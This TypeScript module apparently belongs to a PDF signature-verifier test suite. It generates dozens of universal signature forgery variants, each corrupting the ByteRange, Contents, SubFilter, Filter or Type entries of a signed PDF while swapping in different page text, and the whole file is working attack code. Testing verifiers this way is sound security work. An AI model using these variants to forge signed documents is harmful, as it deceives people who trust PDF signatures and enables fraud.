// Universal signature forgery (2019): the signature's own dictionary is spoilt so that a verifier which meets something
// missing, empty or odd gives up checking and still shows the signature. The page below it says something else.
import { overwritten, shortHex, text, withForgedWords, zoneOf, type Zone } from './craft.ts';
import type { Attack } from './material.ts';

type Parts = Zone & Readonly<{ short: string; range: string; contents: string }>;

/** Writes `/ByteRange … /Contents …` anew within its own length, over a page that says something else. */
function spoilt(name: string, write: (parts: Parts) => string): Attack {
  return {
    name,
    seen: 'text',
    make: ({ signed }) => {
      const zone = zoneOf(signed);
      const from = text(signed).lastIndexOf('/ByteRange [', zone.start);
      const width = zone.start - from;
      const range = `/ByteRange [0 ${zone.start} ${zone.next} ${zone.rest}]`;
      const contents = `/Contents <${zone.hex}>`;
      const spelt = write({ ...zone, short: shortHex(zone), range, contents });
      // The digits stay where they were as long as what stands before them is not longer than it was.
      const [before = '', after = ''] = spelt.split(contents);
      const padded = spelt.includes(contents)
        ? `${before.padEnd(width - '/Contents '.length)}${contents}${after}`
        : spelt;
      const whole = padded.padEnd(zone.next - from);
      if (whole.length !== zone.next - from) throw new Error(`${name} does not fit`);
      return overwritten(withForgedWords(signed), from, whole);
    },
  };
}

/** The range exchanged, the digits as they were. */
function range(name: string, write: (parts: Parts) => string): Attack {
  return spoilt(`ByteRange ${name}`, (parts) => `${write(parts)}${parts.contents}`);
}

/** The digits exchanged, the range as it was. */
function contents(name: string, write: (parts: Parts) => string): Attack {
  return spoilt(`Contents ${name}`, (parts) => `${parts.range} ${write(parts)}`);
}

const rangeVariants: readonly Attack[] = [
  range('left out', () => ''),
  range('without a value', () => '/ByteRange'),
  range('null', () => '/ByteRange null'),
  range('nought', () => '/ByteRange 0'),
  range('true', () => '/ByteRange true'),
  range('a name', () => '/ByteRange /All'),
  range('a string', ({ start, next, rest }) => `/ByteRange (0 ${start} ${next} ${rest})`),
  range('a dictionary', () => '/ByteRange <<>>'),
  range('an empty list', () => '/ByteRange []'),
  range('of noughts', () => '/ByteRange [0 0 0 0]'),
  range('of nulls', () => '/ByteRange [null null null null]'),
  range('all minus one', () => '/ByteRange [-1 -1 -1 -1]'),
  range('with a negative start', ({ start, next, rest }) => `/ByteRange [-1 ${start} ${next} ${rest}]`),
  range(
    'with a negative first length',
    ({ start, next, rest }) => `/ByteRange [0 -${start} ${next} ${rest}]`,
  ),
  range(
    'with a negative second length',
    ({ start, next, rest }) => `/ByteRange [0 ${start} ${next} -${rest}]`,
  ),
  range(
    'with a negative second start',
    ({ start, next, rest }) => `/ByteRange [0 ${start} -${next} ${rest}]`,
  ),
  range('of two numbers', ({ start }) => `/ByteRange [0 ${start}]`),
  range('of three numbers', ({ start, next }) => `/ByteRange [0 ${start} ${next}]`),
  range('of six numbers', ({ start, next, rest }) => `/ByteRange [0 ${start} ${next} ${rest} 0 0]`),
  range('of lists', ({ start, next, rest }) => `/ByteRange [[0 ${start}] [${next} ${rest}]]`),
  range('of fractions', ({ start, next, rest }) => `/ByteRange [0 ${start}.5 ${next} ${rest}]`),
  range('starting later', ({ start, next, rest }) => `/ByteRange [1 ${start - 1} ${next} ${rest}]`),
  range('overlapping itself', ({ start, next, rest }) => `/ByteRange [0 ${next} ${start} ${rest}]`),
  range('without a gap', ({ next, rest }) => `/ByteRange [0 ${next} ${next} ${rest}]`),
  range('with a wider gap', ({ start, next, rest }) => `/ByteRange [0 ${start - 900} ${next} ${rest}]`),
  range('of the first part alone', ({ start, next }) => `/ByteRange [0 ${start} ${next} 0]`),
  range('beyond the end', ({ start, next, rest }) => `/ByteRange [0 ${start} ${next} ${rest + 900}]`),
  range('far beyond the end', ({ start }) => `/ByteRange [0 ${start} 4294967296 1]`),
  range('running over', ({ start, next, rest }) => `/ByteRange [0 ${start + 2 ** 32} ${next} ${rest}]`),
  range('twice, the right one first', ({ range: right }) => `${right}/ByteRange[0 0 0 0]`),
  range('twice, the right one last', ({ range: right }) => `/ByteRange[0 0 0 0]${right}`),
  range('under an escaped name', ({ start, next, rest }) => `/Byte#52ange [0 ${start} ${next} ${rest}]`),
  range('by reference to nothing', () => '/ByteRange 89 0 R'),
  range('of references', () => '/ByteRange [0 0 R 0 0 R 0 0 R 0 0 R]'),
];

const contentsVariants: readonly Attack[] = [
  contents('left out', () => ''),
  contents('without a value', () => '/Contents'),
  contents('null', () => '/Contents null'),
  contents('nought', () => '/Contents 0'),
  contents('a name', () => '/Contents /None'),
  contents('an empty string', () => '/Contents ()'),
  contents('no digits', () => '/Contents <>'),
  contents('a nought byte', () => '/Contents <00>'),
  contents('all noughts', ({ hex }) => `/Contents <${'0'.repeat(hex.length)}>`),
  contents('an empty structure', () => '/Contents <3000>'),
  contents(
    'cut in half',
    ({ short }) => `/Contents <${short.slice(0, short.length / 4).padEnd(short.length / 2, '0')}>`,
  ),
  contents('with one digit too few', ({ short }) => `/Contents <${short.slice(0, -1)}>`),
  contents('a list', ({ short }) => `/Contents [<${short}>]`),
  contents('a dictionary', ({ short }) => `/Contents <</Value <${short}>>>`),
  contents('by reference to nothing', () => '/Contents 89 0 R'),
  contents('twice', ({ short }) => `/Contents <>/Contents <${short}>`),
  contents('without padding', ({ short }) => `/Contents <${short}>`),
];

const kindVariants: readonly Attack[] = (
  [
    ['SubFilter of nobody', '/SubFilter /ETSI.CAdES.detached', '/SubFilter /ETSI.none.of.these '],
    [
      'SubFilter of a bare RSA signature',
      '/SubFilter /ETSI.CAdES.detached',
      '/SubFilter /adbe.x509.rsa_sha1',
    ],
    ['SubFilter null', '/SubFilter /ETSI.CAdES.detached', '/SubFilter null'],
    ['SubFilter of a time-stamp', '/SubFilter /ETSI.CAdES.detached', '/SubFilter /ETSI.RFC3161'],
    ['SubFilter of a sum of a sum', '/SubFilter /ETSI.CAdES.detached', '/SubFilter /adbe.pkcs7.sha1'],
    ['Filter null', '/Filter /Adobe.PPKLite', '/Filter null'],
    ['Type of a time-stamp', '<</Type /Sig /Filter /Adobe.PPKLite', '<</Type /DocTimeStamp /Filter /X'],
  ] as const
).map(([name, from, to]) => ({
  name,
  seen: 'text',
  make: ({ signed }) =>
    overwritten(withForgedWords(signed), text(signed).lastIndexOf(from), to.padEnd(from.length)),
}));

export const universalForgery: readonly Attack[] = [...rangeVariants, ...contentsVariants, ...kindVariants];
